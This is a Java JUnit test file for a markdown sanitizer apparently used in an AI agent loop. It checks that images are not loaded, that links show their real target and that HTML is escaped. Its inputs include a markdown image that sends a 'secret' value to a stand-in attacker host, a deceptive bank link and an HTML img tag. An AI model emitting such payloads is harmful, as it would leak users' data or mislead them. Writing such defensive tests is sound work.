package com.millyweb.hub.agent.loop;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class SafeMarkdownTest {
  @Test
  void picture_is_not_loaded_and_its_address_is_read() {
    assertThat(SafeMarkdown.of("See ![the chart](http://evil.example/?q=secret) now"))
        .doesNotContain("![")
        .contains("the chart")
        .contains("http://evil.example/?q=secret");
    assertThat(SafeMarkdown.of("![x][1]\n\n[1]: http://evil.example/p.png"))
        .doesNotContain("![")
        .contains("http://evil.example/p.png");
  }

  @Test
  void link_shows_where_it_leads() {
    assertThat(SafeMarkdown.of("[your bank](http://evil.example)"))
        .isEqualTo("your bank (http://evil.example)");
    assertThat(SafeMarkdown.of("<http://good.example>")).contains("http://good.example");
  }

  @Test
  void html_is_text() {
    assertThat(SafeMarkdown.of("a <img src=\"http://evil.example\"> b"))
        .isEqualTo("a \\<img src=\"http://evil.example\"\\> b");
    assertThat(SafeMarkdown.of("<details>\n<summary>x</summary>\n</details>"))
        .doesNotContain("\n<details>")
        .startsWith("\\<");
  }

  @Test
  void all_else_stays_as_it_was() {
    String text = "**Down** since `08:00`:\n\n- the disk is full\n- see _below_";
    assertThat(SafeMarkdown.of(text)).isEqualTo(text.replace("_below_", "_below_"));
    assertThat(SafeMarkdown.of("| a | b |\n|---|---|\n| 1 | 2 |")).contains("|");
  }
}
